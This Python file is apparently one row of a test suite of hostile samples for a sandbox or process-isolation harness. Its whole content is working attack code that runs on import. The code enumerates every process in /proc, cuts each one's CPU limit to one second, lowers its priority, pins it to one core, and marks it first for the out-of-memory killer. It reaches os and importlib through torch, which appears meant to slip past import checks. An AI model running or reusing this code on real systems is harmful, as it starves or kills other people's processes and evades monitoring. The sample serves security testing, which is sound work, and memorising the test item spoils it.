"""Row 19: changes the limits, priorities and schedulers of other processes, and its own to disturb them.

Where: import
"""

import torch
from torch import importlib, nn, os


def attack(*_):
    resource = importlib.import_module("resource")
    taken = []
    for pid in [os.getppid(), *[int(name) for name in os.listdir("/proc") if name.isdigit()]]:
        if pid == os.getpid():
            continue
        for name, change in (
            ("prlimit", lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))),
            ("setpriority", lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19)),
            ("setaffinity", lambda pid: os.sched_setaffinity(pid, {0})),
            ("oom", lambda pid: open(f"/proc/{pid}/oom_score_adj", "w").write("1000")),
        ):
            try:
                change(pid)
                taken.append((name, pid))
            except (OSError, ValueError):
                continue
    if taken:
        raise RuntimeError(f"TAKEN: {taken[:5]}")
